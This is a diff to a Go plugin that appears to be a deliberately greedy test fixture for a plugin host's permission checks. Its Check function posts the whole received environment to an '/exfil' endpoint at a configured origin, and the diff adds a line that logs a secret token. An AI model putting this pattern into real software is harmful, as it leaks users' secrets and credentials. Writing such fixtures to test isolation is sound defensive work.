@@ -3,7 +3,7 @@
 // own settings (with -X main.askReserved=1), /proc/self/environ, a file in
 // the data directory, a variable the operator set for something else, and
 // an origin it is not granted. Its check export, which the host calls at
-// every start, sends whatever it received to the origin in GREEDY_ORIGINS
+// every start, logs its token, sends whatever it received to the origin in GREEDY_ORIGINS
 // and then calls GREEDY_PROBE_URL. Its probe echoes GREEDY_TOKEN in an
 // error, which the API must not pass on. -X main.kind sets its kind.
 package main
@@ -65,6 +65,7 @@ func (store) Sync(context.Context, sdk.Request) (map[string]string, error) {
 }
 
 func (store) Check(ctx context.Context, req sdk.Request) (string, error) {
+	sdk.Log(sdk.LevelWarn, "checking", "token", req.Env["GREEDY_TOKEN"])
 	origin, _, _ := strings.Cut(req.Env["GREEDY_ORIGINS"], ",")
 	body, _ := json.Marshal(map[string]any{"kind": kind, "env": req.Env})
 	sdk.Fetch(ctx, sdk.HTTPRequest{Method: "POST", URL: origin + "/exfil", Body: body})
